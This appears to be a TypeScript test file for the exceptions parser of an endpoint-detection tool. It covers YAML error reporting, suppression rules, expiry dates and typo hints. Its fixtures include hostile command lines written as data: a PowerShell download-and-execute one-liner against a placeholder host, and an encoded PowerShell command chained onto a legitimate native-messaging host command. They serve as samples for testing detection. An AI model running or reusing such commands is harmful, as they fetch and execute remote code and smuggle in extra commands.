import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ExceptionsError, parseExceptions } from './exceptions.js';
import { exampleExceptions, scanAndReview, writeRows } from './testing.js';

const now = Date.UTC(2026, 10, 30, 19, 0, 0);

function parseError(text: string): ExceptionsError {
  try {
    parseExceptions(text, 'x.yaml');
  } catch (error) {
    assert.ok(error instanceof ExceptionsError, String(error));
    return error;
  }
  assert.fail('expected an ExceptionsError');
}

const entry = (match: string, extra = '') =>
  `exceptions:\n  - id: a\n    rule: r\n    reason: because\n${extra}    match:\n${match}`;

test('exceptions file errors name line and column', () => {
  const badOperator = parseError(entry('      FileName: { like: a.exe }\n'));
  assert.equal(badOperator.line, 6);
  assert.equal(badOperator.column, 19);
  assert.match(badOperator.message, /unknown operator 'like'/);

  const noReason = parseError('exceptions:\n  - id: a\n    rule: r\n    match:\n      FileName: a.exe\n');
  assert.equal(noReason.line, 2);
  assert.match(noReason.message, /missing 'reason'/);

  const badRegex = parseError(entry("      FileName: { matches regex: 'a(' }\n"));
  assert.equal(badRegex.line, 6);
  assert.match(badRegex.message, /invalid regular expression/);

  const listForScalar = parseError(entry('      FileName: { =~: [a, b] }\n'));
  assert.match(listForScalar.message, /needs one value/);

  const badDate = parseError(entry('      FileName: a.exe\n', '    expires: 30/11/2026\n'));
  assert.equal(badDate.line, 5);
  assert.match(badDate.message, /YYYY-MM-DD/);

  const yamlSyntax = parseError('exceptions:\n  - id: [a\n');
  assert.match(yamlSyntax.message, /^x\.yaml:\d+:\d+: invalid YAML/);

  const emptyMatch = parseError('exceptions:\n  - id: a\n    rule: r\n    reason: b\n    match: {}\n');
  assert.match(emptyMatch.message, /empty 'match'/);

  const duplicate = parseError(`${entry('      FileName: a.exe\n')}  - id: a\n    rule: r\n    reason: b\n    match:\n      FileName: b.exe\n`);
  assert.equal(duplicate.line, 7);
  assert.match(duplicate.message, /duplicate exception id 'a'/);
});

test('exceptions parse operators and defaults', () => {
  const [parsed] = parseExceptions(entry("      FileName: AnyDesk.exe\n      FolderPath: { startswith: 'C:\\Program Files', '!has': Downloads }\n", '    expires: 2026-12-31\n'), 'x.yaml');
  assert.deepEqual(parsed!.conditions, [
    { column: 'FileName', operator: '=~', value: 'AnyDesk.exe', position: { line: 7, column: 7 } },
    { column: 'FolderPath', operator: 'startswith', value: 'C:\\Program Files', position: { line: 8, column: 7 } },
    { column: 'FolderPath', operator: '!has', value: 'Downloads', position: { line: 8, column: 7 } },
  ]);
  assert.equal(parsed!.tests[0]!('anydesk.EXE'), true);
  assert.equal(parsed!.tests[2]!('C:\\Users\\x\\Downloads\\a.exe'), false);
  assert.equal(parsed!.expires, '2026-12-31');
  assert.deepEqual(parseExceptions('', 'empty.yaml'), []);
});

const chrome = { DeviceName: 'ws-sal-01.corp.example', AccountName: 'kestrel', InitiatingProcessFileName: 'chrome.exe', FileName: 'cmd.exe', FolderPath: 'C:\\Windows\\System32\\cmd.exe' };
const hostCommand = 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c ""C:\\Users\\kestrel\\AppData\\Local\\NoteSync\\host.bat" chrome-extension://abcdefghijklmnopabcdefghijklmnop/"';
const nativeMessagingRows = [
  { ...chrome, Timestamp: '2026-11-30T10:00:00Z', ProcessId: 101, ProcessCommandLine: hostCommand },
  { ...chrome, Timestamp: '2026-11-30T10:01:00Z', ProcessId: 102, ProcessCommandLine: 'cmd.exe /c powershell -w h -c "iwr https://example.invalid/a.ps1|iex"' },
  { ...chrome, Timestamp: '2026-11-30T10:02:00Z', ProcessId: 103, ProcessCommandLine: `${hostCommand} & powershell -enc AAAA` },
];

test('native-messaging exception suppresses only the host', async () => {
  const file = writeRows('native-messaging.jsonl', nativeMessagingRows);
  const { review } = await scanAndReview([file], { exceptions: exampleExceptions(), now });
  const all = [...review.alerts, ...review.suppressed];
  assert.equal(all.length, 3, 'the reference rule alerts on all three');
  assert.deepEqual(review.suppressed.map((alert) => alert.columns.ProcessCommandLine), [hostCommand]);
  assert.equal(review.suppressed[0]!.annotations?.SuppressedBy?.value, 'browser-native-messaging-host');
  assert.deepEqual(review.alerts.map((alert) => alert.columns.ProcessCommandLine).sort(), [nativeMessagingRows[1]!.ProcessCommandLine, nativeMessagingRows[2]!.ProcessCommandLine].sort());
  assert.equal(review.exceptions!.suppressedById.get('browser-native-messaging-host'), 1);
});

test('IT remote tool exception keeps Downloads copy', async () => {
  const itInstalled = {
    Timestamp: '2026-11-30T07:00:00Z', DeviceName: 'srv-app-01.corp.example', AccountName: 'system', ProcessId: 201,
    FileName: 'AnyDesk.exe', FolderPath: 'C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe',
    ProcessCommandLine: '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service', InitiatingProcessFileName: 'services.exe',
  };
  const scam = {
    Timestamp: '2026-11-30T11:00:00Z', DeviceName: 'ws-sal-01.corp.example', AccountName: 'kestrel', ProcessId: 202,
    FileName: 'AnyDesk.exe', FolderPath: 'C:\\Users\\kestrel\\Downloads\\AnyDesk.exe',
    ProcessCommandLine: '"C:\\Users\\kestrel\\Downloads\\AnyDesk.exe"', InitiatingProcessFileName: 'explorer.exe',
  };
  const file = writeRows('anydesk.jsonl', [itInstalled, scam]);
  const { review } = await scanAndReview([file], { exceptions: exampleExceptions(), now });
  assert.equal(review.suppressed.length, 1);
  assert.equal(review.suppressed[0]!.columns.FolderPath, itInstalled.FolderPath);
  assert.equal(review.suppressed[0]!.annotations?.SuppressedBy?.value, 'it-remote-tool-service');
  assert.deepEqual(review.alerts.map((alert) => alert.columns.FolderPath), [scam.FolderPath]);
});

test('expired exception stops suppressing', async () => {
  const file = writeRows('native-messaging.jsonl', nativeMessagingRows.slice(0, 1));
  const expired = parseExceptions(
    `exceptions:\n  - id: old-host\n    rule: lw-t1204-user-execution\n    reason: host\n    expires: 2026-11-29\n    match:\n      ProcessCommandLine: { has: chrome-extension }\n`,
    'old.yaml',
  );
  const { review } = await scanAndReview([file], { exceptions: expired, now });
  assert.equal(review.alerts.length, 1);
  assert.equal(review.suppressed.length, 0);
  assert.equal(review.exceptions!.expired.length, 1);
  assert.equal(review.exceptions!.expired[0]!.wouldSuppress, 1);

  const lastDay = Date.UTC(2026, 10, 29, 23, 59, 0);
  const { review: beforeExpiry } = await scanAndReview([file], { exceptions: expired, now: lastDay });
  assert.equal(beforeExpiry.suppressed.length, 1, 'an entry still applies on its expires day');
});

test('impossible expiry date is rejected', () => {
  const error = parseError(entry('      FileName: a.exe\n', '    expires: 2027-02-30\n'));
  assert.equal(error.line, 5);
  assert.match(error.message, /invalid expires '2027-02-30'/);
});

test('misspelt column names the nearest', async () => {
  const { checkExceptionColumns } = await import('./exceptionColumns.js');
  const { compileRules } = await import('../detect/compileRules.js');
  const { loadRules } = await import('../rules/load.js');
  const { join } = await import('node:path');
  const { projectRoot } = await import('../testing/shared.js');
  const rules = compileRules(loadRules([join(projectRoot, 'rules', 't1204-user-execution.yaml')]), { now, lookback: 'ignore' });
  const typo = parseExceptions(
    'exceptions:\n  - id: it-anydesk\n    rule: lw-t1204-user-execution\n    reason: IT\n    match:\n      FileNam: AnyDesk.exe\n',
    'x.yaml',
  );
  assert.throws(() => checkExceptionColumns(typo, rules), (error: unknown) => {
    assert.ok(error instanceof ExceptionsError);
    assert.equal(error.line, 6);
    assert.equal(error.column, 7);
    assert.match(error.message, /unknown column 'FileNam'/);
    assert.match(error.message, /did you mean 'FileName'/);
    return true;
  });
  const valid = parseExceptions(
    'exceptions:\n  - id: it-anydesk\n    rule: lw-t1204-user-execution\n    reason: IT\n    match:\n      FileName: AnyDesk.exe\n      ProcessChain: { has: services.exe }\n      SHA256: abc\n',
    'x.yaml',
  );
  assert.doesNotThrow(() => checkExceptionColumns(valid, rules));
  assert.doesNotThrow(() => checkExceptionColumns(exampleExceptions(), rules));
});

test('misspelt top-level key is rejected', () => {
  const typo = parseError('# IT tools\nexception:\n  - id: a\n    rule: r\n    reason: b\n    match:\n      FileName: a.exe\n');
  assert.equal(typo.file, 'x.yaml');
  assert.equal(typo.line, 2);
  assert.equal(typo.column, 1);
  assert.match(typo.message, /^x\.yaml:2:1: unknown top-level key 'exception'/);
  assert.match(typo.message, /did you mean 'exceptions'/);

  const extra = parseError(`${entry('      FileName: a.exe\n')}owner: soc\n`);
  assert.equal(extra.line, 7);
  assert.match(extra.message, /unknown top-level key 'owner'/);
});

test('misspelt entry key names the nearest', () => {
  const typo = parseError(entry('      FileName: a.exe\n', '    expire: 2026-12-31\n'));
  assert.equal(typo.line, 5);
  assert.equal(typo.column, 5);
  assert.match(typo.message, /unknown key 'expire' in an exception \(did you mean 'expires'\?\)/);
});
